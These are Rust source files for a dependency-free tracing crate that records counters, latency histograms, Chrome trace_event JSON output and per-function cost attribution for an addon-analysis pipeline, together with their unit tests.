        for q in [0.0, 0.5, 0.99, 1.0] {
            assert_eq!(snap.percentile(q), Some(7), "q={q}");
        }
        // All-zero observations report exactly zero.
        let z = Histogram::new();
        z.record(0);
        assert_eq!(z.snapshot("zeros").percentile(0.5), Some(0));
        // A single u64::MAX reports the overflow bucket's cap.
        let m = Histogram::new();
        m.record(u64::MAX);
        assert_eq!(m.snapshot("max").percentile(0.5), Some(u64::MAX));
    }

    #[test]
    fn percentile_refines_when_one_bucket_is_occupied() {
        // Single-valued histogram: the sum pins the exact value, so no
        // 4-reports-as-7 inflation.
        let h = Histogram::new();
        for _ in 0..100 {
            h.record(4); // bucket [4, 8): cap 7, but sum says exactly 4
        }
        let snap = h.snapshot("exact");
        for q in [0.0, 0.5, 1.0] {
            assert_eq!(snap.percentile(q), Some(4), "q={q}");
        }
        let one = Histogram::new();
        one.record(5);
        assert_eq!(one.snapshot("one").percentile(0.5), Some(5));
        // Mixed values inside the bucket: the sum bound tightens the cap
        // without going below the true maximum (4 and 6: bound is
        // 10 - 1*4 = 6, exactly the max).
        let mixed = Histogram::new();
        mixed.record(4);
        mixed.record(6);
        assert_eq!(mixed.snapshot("mixed").percentile(1.0), Some(6));
        // Two occupied buckets: no single-bucket bound, cap stands.
        let spread = Histogram::new();
        spread.record(4);
        spread.record(100);
        assert_eq!(spread.snapshot("spread").percentile(1.0), Some(127));
    }

    #[test]
    fn percentile_rejects_nan_and_clamps_out_of_range() {
        let h = Histogram::new();
        h.record(5);
        let snap = h.snapshot("q");
        // NaN used to clamp to NaN, cast to rank 0, and silently read as
        // rank 1; it must be an explicit None instead.
        assert_eq!(snap.percentile(f64::NAN), None);
        // Finite out-of-range quantiles clamp.
        assert_eq!(snap.percentile(-1.0), snap.percentile(0.0));
        assert_eq!(snap.percentile(2.0), snap.percentile(1.0));
    }

    #[test]
    fn percentile_walks_cumulative_buckets() {
        let h = Histogram::new();
        for _ in 0..50 {
            h.record(1); // bucket 1, upper bound estimate 1
        }
        for _ in 0..49 {
            h.record(1000); // bucket 10 ([512, 1024)), estimate 1023
        }
        h.record(1 << 20); // bucket 21, estimate 2^21 - 1
        let snap = h.snapshot("walk");
        assert_eq!(snap.percentile(0.25), Some(1));
        assert_eq!(snap.percentile(0.50), Some(1), "rank 50 is the last 1");
        assert_eq!(snap.percentile(0.75), Some(1023));
        assert_eq!(snap.percentile(0.99), Some(1023));
        assert_eq!(snap.percentile(1.0), Some((1 << 21) - 1));
    }

    #[test]
    fn registry_is_shared_across_threads() {
        let reg = MetricsRegistry::new();
        std::thread::scope(|s| {
            for _ in 0..4 {
                s.spawn(|| {
                    for i in 0..100 {
                        reg.add("vets", 1);
                        reg.record("lat_us", i);
                    }
                });
            }
        });
        let snap = reg.snapshot();
        assert_eq!(snap.counters, vec![("vets".to_owned(), 400)]);
        assert_eq!(snap.histograms.len(), 1);
        assert_eq!(snap.histograms[0].count, 400);
    }

    #[test]
    fn merge_counters_uses_stable_pipeline_names() {
        let reg = MetricsRegistry::new();
        let mut c = Counters::new();
        c.add(Counter::WorklistSteps, 5);
        reg.merge_counters(&c);
        reg.merge_counters(&c);
        let snap = reg.snapshot();
        assert_eq!(
            snap.counters,
            vec![("pipeline_worklist_steps".to_owned(), 10)]
        );
    }
}
