//! The fixed set of pipeline counters.
//!
//! A closed enum instead of string keys: the hot phases index a plain
//! array, misspellings are compile errors, and the golden tests can
//! enumerate every counter when checking determinism.

/// One pipeline counter. See [`Counter::order_independent`] for the
/// determinism classification.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
#[repr(usize)]
pub enum Counter {
    /// Phase 1: fixpoint iterations of the abstract interpreter.
    WorklistSteps,
    /// Phase 1: abstract-state joins performed when re-queuing a node.
    StateJoins,
    /// Phase 1: abstract heap objects copied by copy-on-write before a
    /// mutation (shared `Arc` forced to clone).
    HeapCowClones,
    /// Phase 2: strong (must) data-dependence edges in the PDG.
    PdgDataStrongEdges,
    /// Phase 2: weak (may) data-dependence edges in the PDG.
    PdgDataWeakEdges,
    /// Phase 2: local control-dependence edges in the PDG.
    PdgCtrlLocalEdges,
    /// Phase 2: non-local explicit control edges (exceptional flow).
    PdgCtrlNonLocExpEdges,
    /// Phase 2: non-local implicit control edges.
    PdgCtrlNonLocImpEdges,
    /// Phase 2: control edges carrying the amplification mark.
    PdgCtrlAmplifiedEdges,
    /// Phase 3: propagation worklist iterations over the PDG.
    FlowPropSteps,
    /// Phase 3: flow-lattice raises — distinct `(statement, flow type)`
    /// facts established during propagation.
    FlowTypeRaises,
    /// Phase 3: flow entries reported in the final signature.
    SignatureFlows,
}

/// Number of counters (the backing array length of [`Counters`]).
pub const COUNTER_COUNT: usize = 12;

impl Counter {
    /// Every counter, in declaration order.
    pub const ALL: [Counter; COUNTER_COUNT] = [
        Counter::WorklistSteps,
        Counter::StateJoins,
        Counter::HeapCowClones,
        Counter::PdgDataStrongEdges,
        Counter::PdgDataWeakEdges,
        Counter::PdgCtrlLocalEdges,
        Counter::PdgCtrlNonLocExpEdges,
        Counter::PdgCtrlNonLocImpEdges,
        Counter::PdgCtrlAmplifiedEdges,
        Counter::FlowPropSteps,
        Counter::FlowTypeRaises,
        Counter::SignatureFlows,
    ];

    /// Stable snake_case name, used for metrics registry keys and JSON.
    pub fn name(self) -> &'static str {
        match self {
            Counter::WorklistSteps => "worklist_steps",
            Counter::StateJoins => "state_joins",
            Counter::HeapCowClones => "heap_cow_clones",
            Counter::PdgDataStrongEdges => "pdg_data_strong_edges",
            Counter::PdgDataWeakEdges => "pdg_data_weak_edges",
            Counter::PdgCtrlLocalEdges => "pdg_ctrl_local_edges",
            Counter::PdgCtrlNonLocExpEdges => "pdg_ctrl_nonlocexp_edges",
            Counter::PdgCtrlNonLocImpEdges => "pdg_ctrl_nonlocimp_edges",
            Counter::PdgCtrlAmplifiedEdges => "pdg_ctrl_amplified_edges",
            Counter::FlowPropSteps => "flow_prop_steps",
            Counter::FlowTypeRaises => "flow_type_raises",
            Counter::SignatureFlows => "signature_flows",
        }
    }

    /// Whether this counter is identical across worklist orders.
    ///
    /// Phase-1 route counters (steps, joins, CoW clones) measure how the
    /// fixpoint was *reached* and legitimately differ between FIFO and
    /// RPO scheduling (RPO exists to shrink them). Less obviously, the
    /// fixpoint itself is mildly order-sensitive: strong updates under
    /// the recency abstraction are non-monotone, so FIFO and RPO can
    /// settle on slightly different — equally sound — abstract states
    /// (on the corpus, a data edge flipping strength or one extra weak
    /// edge). Data-dependence edge tallies and the flow-propagation
    /// counters computed over them inherit that sensitivity.
    ///
    /// What survives a worklist-order change bit for bit: the
    /// control-dependence tallies (structural — computed from the CFG
    /// and postdominators, with reachability a monotone may-property)
    /// and the reported signature itself (locked separately by the
    /// worklist golden tests).
    pub fn order_independent(self) -> bool {
        matches!(
            self,
            Counter::PdgCtrlLocalEdges
                | Counter::PdgCtrlNonLocExpEdges
                | Counter::PdgCtrlNonLocImpEdges
                | Counter::PdgCtrlAmplifiedEdges
                | Counter::SignatureFlows
        )
    }
}

/// A dense map from [`Counter`] to `u64`.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Counters([u64; COUNTER_COUNT]);

impl Counters {
    /// All-zero counters.
    pub fn new() -> Counters {
        Counters::default()
    }

    /// Current value of one counter.
    pub fn get(&self, c: Counter) -> u64 {
        self.0[c as usize]
    }

    /// Adds `delta` to one counter.
    pub fn add(&mut self, c: Counter, delta: u64) {
        self.0[c as usize] += delta;
    }

    /// Adds every counter of `other` into `self`.
    pub fn merge(&mut self, other: &Counters) {
        for c in Counter::ALL {
            self.0[c as usize] += other.0[c as usize];
        }
    }

    /// `(counter, value)` pairs in declaration order.
    pub fn iter(&self) -> impl Iterator<Item = (Counter, u64)> + '_ {
        Counter::ALL.into_iter().map(move |c| (c, self.get(c)))
    }

    /// The subset identical across worklist orders (see
    /// [`Counter::order_independent`]), for cross-order golden tests.
    pub fn order_independent(&self) -> Vec<(Counter, u64)> {
        self.iter().filter(|(c, _)| c.order_independent()).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_lists_every_counter_once() {
        let mut seen = std::collections::BTreeSet::new();
        for c in Counter::ALL {
            assert!(seen.insert(c.name()), "duplicate counter {}", c.name());
        }
        assert_eq!(seen.len(), COUNTER_COUNT);
    }

    #[test]
    fn merge_is_pointwise_addition() {
        let mut a = Counters::new();
        a.add(Counter::WorklistSteps, 3);
        a.add(Counter::SignatureFlows, 1);
        let mut b = Counters::new();
        b.add(Counter::WorklistSteps, 4);
        b.merge(&a);
        assert_eq!(b.get(Counter::WorklistSteps), 7);
        assert_eq!(b.get(Counter::SignatureFlows), 1);
        assert_eq!(b.get(Counter::StateJoins), 0);
    }

    #[test]
    fn classification_covers_route_and_state_sensitive_counters() {
        // Route counters: order-dependent by design.
        assert!(!Counter::WorklistSteps.order_independent());
        assert!(!Counter::StateJoins.order_independent());
        assert!(!Counter::HeapCowClones.order_independent());
        // State-derived counters: order-sensitive because strong updates
        // are non-monotone (see the method docs).
        assert!(!Counter::PdgDataStrongEdges.order_independent());
        assert!(!Counter::PdgDataWeakEdges.order_independent());
        assert!(!Counter::FlowPropSteps.order_independent());
        assert!(!Counter::FlowTypeRaises.order_independent());
        // Structural and signature-level counters: invariant.
        for c in [
            Counter::PdgCtrlLocalEdges,
            Counter::PdgCtrlNonLocExpEdges,
            Counter::PdgCtrlNonLocImpEdges,
            Counter::PdgCtrlAmplifiedEdges,
            Counter::SignatureFlows,
        ] {
            assert!(c.order_independent(), "{} should be order independent", c.name());
        }
    }
}
