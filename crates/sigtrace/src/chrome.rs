//! `chrome://tracing` / Perfetto `trace_event` JSON output.
//!
//! The writer wraps a [`SpanCollector`] and serializes its spans as
//! complete events (`"ph":"X"`) plus one counter event (`"ph":"C"`)
//! per non-zero pipeline counter. The JSON is hand-built against `std`
//! only — this crate must stay dependency-free — and is covered by a
//! test that round-trips it through the workspace's `minijson` parser.

use crate::counter::Counters;
use crate::span::{SpanCollector, SpanRecord, Tracer};
use std::fmt::Write as _;

/// A [`Tracer`] that renders the run as a `trace_event` JSON document
/// loadable by `chrome://tracing` and Perfetto (`ui.perfetto.dev`).
#[derive(Debug, Default)]
pub struct ChromeTraceWriter {
    collector: SpanCollector,
}

impl ChromeTraceWriter {
    /// An empty writer; the time origin is now.
    pub fn new() -> ChromeTraceWriter {
        ChromeTraceWriter {
            collector: SpanCollector::new(),
        }
    }

    /// The spans recorded so far (start order).
    pub fn spans(&self) -> &[SpanRecord] {
        self.collector.spans()
    }

    /// The counters accumulated so far.
    pub fn counters(&self) -> &Counters {
        self.collector.counters()
    }

    /// Serializes everything recorded so far as a `trace_event` JSON
    /// document (the `{"traceEvents": [...]}` object form).
    pub fn to_json_string(&self) -> String {
        let mut out = String::with_capacity(256 + self.collector.spans().len() * 96);
        out.push_str("{\"displayTimeUnit\":\"ms\",\"traceEvents\":[");
        let mut first = true;
        let mut push = |out: &mut String, event: String| {
            if !std::mem::take(&mut first) {
                out.push(',');
            }
            out.push_str(&event);
        };
        push(
            &mut out,
            "{\"ph\":\"M\",\"pid\":1,\"tid\":1,\"name\":\"process_name\",\
             \"args\":{\"name\":\"addon-sig pipeline\"}}"
                .to_owned(),
        );
        for span in self.collector.spans() {
            let mut ev = String::new();
            let _ = write!(
                ev,
                "{{\"ph\":\"X\",\"pid\":1,\"tid\":1,\"cat\":\"pipeline\",\"name\":\"{}\",\
                 \"ts\":{},\"dur\":{}}}",
                escape(&span.name),
                span.start_us,
                span.dur_us,
            );
            push(&mut out, ev);
        }
        // Counters as a single sample at the end of the run: the totals
        // are what is deterministic, not any intermediate trajectory.
        let end_us = self
            .collector
            .spans()
            .iter()
            .map(|s| s.start_us + s.dur_us)
            .max()
            .unwrap_or(0);
        for (c, v) in self.collector.counters().iter() {
            if v == 0 {
                continue;
            }
            let mut ev = String::new();
            let _ = write!(
                ev,
                "{{\"ph\":\"C\",\"pid\":1,\"tid\":1,\"name\":\"{}\",\"ts\":{},\
                 \"args\":{{\"value\":{}}}}}",
                c.name(),
                end_us,
                v,
            );
            push(&mut out, ev);
        }
        out.push_str("]}");
        out
    }
}

impl Tracer for ChromeTraceWriter {
    fn span_start(&mut self, name: &str) {
        self.collector.span_start(name);
    }

    fn span_end(&mut self, name: &str) {
        self.collector.span_end(name);
    }

    fn add(&mut self, counter: crate::Counter, delta: u64) {
        self.collector.add(counter, delta);
    }

    fn add_counters(&mut self, counters: &Counters) {
        self.collector.add_counters(counters);
    }
}

/// Escapes the mandatory JSON control set (span names are ASCII
/// identifiers today, but the format must not break if one ever isn't).
fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for ch in s.chars() {
        match ch {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Counter;
    use minijson::Json;

    /// Builds a writer with a realistic nested span structure.
    fn sample() -> ChromeTraceWriter {
        let mut w = ChromeTraceWriter::new();
        w.span_start("pipeline");
        w.span_start("parse");
        w.span_end("parse");
        w.span_start("phase1");
        w.add(Counter::WorklistSteps, 1024);
        w.add(Counter::StateJoins, 96);
        w.span_end("phase1");
        w.span_start("phase2");
        w.span_start("ddg");
        w.span_end("ddg");
        w.span_end("phase2");
        w.span_end("pipeline");
        w
    }

    #[test]
    fn output_parses_with_minijson_and_has_the_trace_event_shape() {
        let doc = Json::parse(&sample().to_json_string()).expect("valid JSON");
        assert_eq!(doc["displayTimeUnit"].as_str(), Some("ms"));
        let events = doc["traceEvents"].as_array().expect("traceEvents array");
        assert!(!events.is_empty());
        for ev in events {
            let ph = ev["ph"].as_str().expect("ph");
            assert!(matches!(ph, "X" | "C" | "M"), "unexpected phase {ph}");
            assert!(ev["name"].as_str().is_some());
            if ph == "X" {
                assert!(ev["ts"].as_f64().is_some());
                assert!(ev["dur"].as_f64().is_some());
            }
        }
        let names: Vec<&str> = events
            .iter()
            .filter(|e| e["ph"] == Json::Str("X".into()))
            .filter_map(|e| e["name"].as_str())
            .collect();
        assert_eq!(names, ["pipeline", "parse", "phase1", "phase2", "ddg"]);
        assert!(events
            .iter()
            .any(|e| e["name"].as_str() == Some("worklist_steps")));
    }

    #[test]
    fn complete_events_nest_strictly() {
        let doc = Json::parse(&sample().to_json_string()).expect("valid JSON");
        let events = doc["traceEvents"].as_array().unwrap();
        let spans: Vec<(f64, f64)> = events
            .iter()
            .filter(|e| e["ph"] == Json::Str("X".into()))
            .map(|e| {
                let ts = e["ts"].as_f64().unwrap();
                (ts, ts + e["dur"].as_f64().unwrap())
            })
            .collect();
        // Any two spans either nest or are disjoint — never partially
        // overlap (single-threaded pipeline, stack discipline).
        for (i, &(s1, e1)) in spans.iter().enumerate() {
            for &(s2, e2) in &spans[i + 1..] {
                let nested = (s1 <= s2 && e2 <= e1) || (s2 <= s1 && e1 <= e2);
                let disjoint = e1 <= s2 || e2 <= s1;
                assert!(nested || disjoint, "spans partially overlap");
            }
        }
    }

    #[test]
    fn names_are_escaped() {
        assert_eq!(escape("a\"b\\c\n"), "a\\\"b\\\\c\\u000a");
    }
}
