//! Cost attribution: per-`(function, context-class, phase)` step and
//! time tallies, and the [`JobProfile`] they roll up into.
//!
//! The base analysis can already say *how much* a job cost (the
//! [`Counter`](crate::Counter) totals); attribution says *where*: which
//! functions, at which context depths, ate the worklist budget. That is
//! the evidence a "why did this addon time out" postmortem needs, and
//! the data a tiered-sensitivity escalation policy selects on.
//!
//! The design mirrors [`Trace`](crate::Trace) exactly:
//!
//! * [`Attribution`] is the handle the analysis threads through — an
//!   enum, so the disabled path is one predictable branch on a
//!   discriminant, never a virtual call or an allocation.
//! * The fixpoint loop does **not** call the sink per step. It keeps
//!   dense local tallies (indexed by function id × context class) and
//!   flushes them once when the run ends — the same once-per-phase
//!   flush discipline the counters use.
//! * [`AttributionSink`] collects the flushed buckets;
//!   [`AttributionSink::into_profile`] sorts them into a deterministic
//!   [`JobProfile`].
//!
//! Determinism contract: bucket *step* counts are deterministic for a
//! fixed source, configuration, and worklist order (they are slices of
//! [`Counter::WorklistSteps`](crate::Counter::WorklistSteps), which is
//! order-*dependent* — RPO exists to shrink it). Profile consumers that
//! need byte-identical output across `--order` flags therefore pin a
//! canonical schedule; `vet profile` pins RPO. Bucket *times* are wall
//! clock and never deterministic, so [`JobProfile::render_table`]
//! excludes them.

use std::fmt::Write as _;

/// Number of context classes a bucket can fall into: call-string depth
/// 0, 1, or 2-and-deeper. Clamping keeps the tally dense and bounded
/// regardless of the configured context depth.
pub const CTX_CLASSES: usize = 3;

/// Stable display name of a context class (`"0"`, `"1"`, `"2+"`).
pub fn ctx_class_name(class: u8) -> &'static str {
    match class {
        0 => "0",
        1 => "1",
        _ => "2+",
    }
}

/// One attribution bucket: the cost a single `(function, context
/// class, phase)` combination accrued.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FuncCost {
    /// Function display name (the lowered IR's diagnostic name; the
    /// top level reports as `<top-level>`).
    pub func: String,
    /// Clamped call-string depth: 0, 1, or 2 (meaning "2 or deeper").
    pub ctx_class: u8,
    /// Which phase accrued it (`"fixpoint"` for worklist steps).
    pub phase: String,
    /// Worklist steps executed in this bucket. Deterministic for a
    /// fixed source, configuration, and worklist order.
    pub steps: u64,
    /// Wall-clock microseconds spent in this bucket. Never
    /// deterministic; excluded from golden-tested renderings.
    pub time_us: u64,
}

/// Collects flushed attribution buckets. The analysis writes here once
/// per run (not per step); see the module docs.
#[derive(Debug, Default)]
pub struct AttributionSink {
    costs: Vec<FuncCost>,
}

impl AttributionSink {
    /// An empty sink.
    pub fn new() -> AttributionSink {
        AttributionSink::default()
    }

    /// Records one flushed bucket.
    pub fn record(&mut self, func: &str, ctx_class: u8, phase: &str, steps: u64, time_us: u64) {
        self.costs.push(FuncCost {
            func: func.to_owned(),
            ctx_class: ctx_class.min((CTX_CLASSES - 1) as u8),
            phase: phase.to_owned(),
            steps,
            time_us,
        });
    }

    /// The buckets recorded so far, in flush order.
    pub fn costs(&self) -> &[FuncCost] {
        &self.costs
    }

    /// True when nothing was recorded (attribution never flushed).
    pub fn is_empty(&self) -> bool {
        self.costs.is_empty()
    }

    /// Rolls the buckets up into a deterministic [`JobProfile`]:
    /// hotspots sorted by steps (descending), ties broken by
    /// `(func, ctx_class, phase)` ascending so the order never depends
    /// on flush order or wall-clock times.
    pub fn into_profile(self, total_steps: u64) -> JobProfile {
        let mut hotspots = self.costs;
        hotspots.sort_by(|a, b| {
            b.steps
                .cmp(&a.steps)
                .then_with(|| a.func.cmp(&b.func))
                .then_with(|| a.ctx_class.cmp(&b.ctx_class))
                .then_with(|| a.phase.cmp(&b.phase))
        });
        JobProfile {
            total_steps,
            phases: Vec::new(),
            hotspots,
        }
    }
}

/// The handle the analysis threads through: attribution off (one
/// discriminant branch, zero work) or on (dense local tallies, flushed
/// once into the sink). Mirrors [`Trace`](crate::Trace).
#[derive(Default)]
pub enum Attribution<'a> {
    /// Attribution disabled; the analysis pays one branch to find out.
    #[default]
    Off,
    /// Attribution enabled; flushed buckets land in the sink.
    On(&'a mut AttributionSink),
}

impl<'a> Attribution<'a> {
    /// Wraps a sink in an enabled handle.
    pub fn on(sink: &'a mut AttributionSink) -> Attribution<'a> {
        Attribution::On(sink)
    }

    /// Whether buckets will be observed (lets the analysis skip the
    /// per-step clock reads that only exist to be attributed).
    #[inline]
    pub fn is_enabled(&self) -> bool {
        matches!(self, Attribution::On(_))
    }

    /// Records one flushed bucket (no-op when off).
    #[inline]
    pub fn record(&mut self, func: &str, ctx_class: u8, phase: &str, steps: u64, time_us: u64) {
        if let Attribution::On(sink) = self {
            sink.record(func, ctx_class, phase, steps, time_us);
        }
    }
}

/// Where one job's cost went: total steps, per-phase wall times, and
/// the per-`(function, context class, phase)` hotspot buckets, sorted
/// most-expensive first (deterministic tie-break; see
/// [`AttributionSink::into_profile`]).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct JobProfile {
    /// Worklist steps the whole run executed (including steps in
    /// functions too cold to surface as hotspots).
    pub total_steps: u64,
    /// Per-phase wall times as `(phase, µs)` pairs, in pipeline order.
    /// A budget-aborted run only carries the phases that actually ran.
    pub phases: Vec<(String, u64)>,
    /// Attribution buckets, sorted by steps descending.
    pub hotspots: Vec<FuncCost>,
}

impl JobProfile {
    /// The `k` most expensive buckets (fewer when the program is small).
    pub fn top(&self, k: usize) -> &[FuncCost] {
        &self.hotspots[..self.hotspots.len().min(k)]
    }

    /// Renders the deterministic hotspot table: rank, steps, share of
    /// total steps, context class, and function, for the top `top_n`
    /// buckets. Wall-clock columns are deliberately absent — this
    /// string is golden-tested bit-identical across runs and thread
    /// counts (and across worklist orders once the caller pins one).
    pub fn render_table(&self, top_n: usize) -> String {
        let mut out = String::new();
        let _ = writeln!(out, "total worklist steps: {}", self.total_steps);
        let shown = self.top(top_n);
        if shown.is_empty() {
            out.push_str("no attribution buckets recorded\n");
            return out;
        }
        let width = shown.iter().map(|c| c.steps.to_string().len()).max().unwrap_or(1).max(5);
        let _ = writeln!(out, "rank  {:>width$}  share   ctx  function", "steps");
        for (i, c) in shown.iter().enumerate() {
            let share = if self.total_steps == 0 {
                0.0
            } else {
                c.steps as f64 * 100.0 / self.total_steps as f64
            };
            let _ = writeln!(
                out,
                "{:>4}  {:>width$}  {:>5.1}%  {:>3}  {}",
                i + 1,
                c.steps,
                share,
                ctx_class_name(c.ctx_class),
                c.func,
            );
        }
        if self.hotspots.len() > shown.len() {
            let _ = writeln!(
                out,
                "(top {} of {} buckets)",
                shown.len(),
                self.hotspots.len()
            );
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn off_handle_is_inert() {
        let mut a = Attribution::Off;
        assert!(!a.is_enabled());
        a.record("f", 0, "fixpoint", 10, 5);
    }

    #[test]
    fn sink_collects_and_profile_sorts_deterministically() {
        let mut sink = AttributionSink::new();
        {
            let mut a = Attribution::on(&mut sink);
            assert!(a.is_enabled());
            a.record("zeta", 0, "fixpoint", 50, 900);
            a.record("alpha", 1, "fixpoint", 50, 100);
            a.record("beta", 0, "fixpoint", 200, 1);
            a.record("alpha", 0, "fixpoint", 50, 10);
        }
        assert_eq!(sink.costs().len(), 4);
        let profile = sink.into_profile(400);
        // Sorted by steps desc; 50-step ties broken by (func, ctx).
        let order: Vec<(&str, u8)> = profile
            .hotspots
            .iter()
            .map(|c| (c.func.as_str(), c.ctx_class))
            .collect();
        assert_eq!(
            order,
            [("beta", 0), ("alpha", 0), ("alpha", 1), ("zeta", 0)]
        );
        assert_eq!(profile.top(2).len(), 2);
        assert_eq!(profile.top(99).len(), 4);
    }

    #[test]
    fn table_is_time_free_and_counts_hidden_buckets() {
        let mut sink = AttributionSink::new();
        sink.record("hot", 2, "fixpoint", 300, 123_456);
        sink.record("warm", 0, "fixpoint", 100, 7);
        sink.record("cold", 0, "fixpoint", 1, 7);
        let table = sink.into_profile(401).render_table(2);
        assert!(table.contains("total worklist steps: 401"));
        assert!(table.contains("hot"));
        assert!(table.contains("2+"), "deep contexts render as 2+");
        assert!(table.contains("74.8%"), "shares render to one decimal: {table}");
        assert!(!table.contains("cold"), "beyond top_n");
        assert!(table.contains("(top 2 of 3 buckets)"));
        assert!(!table.contains("123"), "wall-clock numbers never render: {table}");
    }

    #[test]
    fn empty_profile_renders_a_placeholder() {
        let table = AttributionSink::new().into_profile(0).render_table(10);
        assert!(table.contains("no attribution buckets"));
    }

    #[test]
    fn ctx_classes_clamp() {
        let mut sink = AttributionSink::new();
        sink.record("f", 9, "fixpoint", 1, 0);
        assert_eq!(sink.costs()[0].ctx_class, 2);
        assert_eq!(ctx_class_name(0), "0");
        assert_eq!(ctx_class_name(1), "1");
        assert_eq!(ctx_class_name(7), "2+");
    }
}
